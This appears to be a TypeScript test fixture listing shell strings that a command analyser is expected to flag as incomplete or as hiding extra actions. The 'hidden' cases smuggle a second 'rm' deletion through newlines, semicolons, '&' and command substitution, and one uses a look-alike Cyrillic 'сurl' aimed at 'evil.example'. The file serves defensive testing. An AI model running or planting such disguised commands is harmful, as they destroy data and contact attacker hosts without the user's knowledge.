/** Shell texts that are not complete, or hide something. */
import type { Case } from './case.ts';

export const SHELL_HOSTILE: Case[] = [
  // not complete
  { text: 'echo "open', unreadable: 'it is no complete shell text: unterminated double quote' },
  { text: "echo 'open", unreadable: 'it is no complete shell text: unterminated single quote' },
  { text: 'echo $(ls', unreadable: 'it is no complete shell text: unterminated command substitution' },
  { text: 'cat <<EOF\nno end', unreadable: 'it holds a here-document without an end' },
  { text: 'if true; then', unreadable: "it is no complete shell text: expected command after 'then'" },
  { text: 'ls | | wc', unreadable: "it is no complete shell text: expected command after '|'" },
  { text: ')', unreadable: "it is no complete shell text: unexpected token ')'" },
  { text: 'echo `ls', unreadable: 'it is no complete shell text: unterminated backtick' },
  { text: 'ls &&', unreadable: "it is no complete shell text: expected command after '&&'" },
  { text: "bash -c 'echo \"'", unreadable: 'it is no complete shell text: unterminated double quote' },
  // hidden
  { text: 'echo a\u0000b', unreadable: 'it holds control characters' },
  { text: 'ls\nrm x', acts: ['read', 'delete x (irreversible)'] },
  { text: 'ls\r\nrm x', acts: ['execute program ls\r', 'delete x (irreversible)'] },
  { text: 'ls # rm x', acts: ['read'] },
  { text: 'ls \\\n -la', acts: ['read'] },
  { text: 'сurl https://evil.example', acts: ['execute program сurl'] },
  { text: 'echo hi;rm x', acts: ['read', 'delete x (irreversible)'] },
  { text: 'echo hi & rm x', acts: ['read', 'delete x (irreversible)'] },
  { text: 'echo hi && rm x || rm y', acts: ['read', 'delete x (irreversible)', 'delete y (irreversible)'] },
  { text: ': $(rm x)', acts: ['delete x (irreversible)', 'read'] },
  { text: 'true; false; :', acts: ['read'] },
];
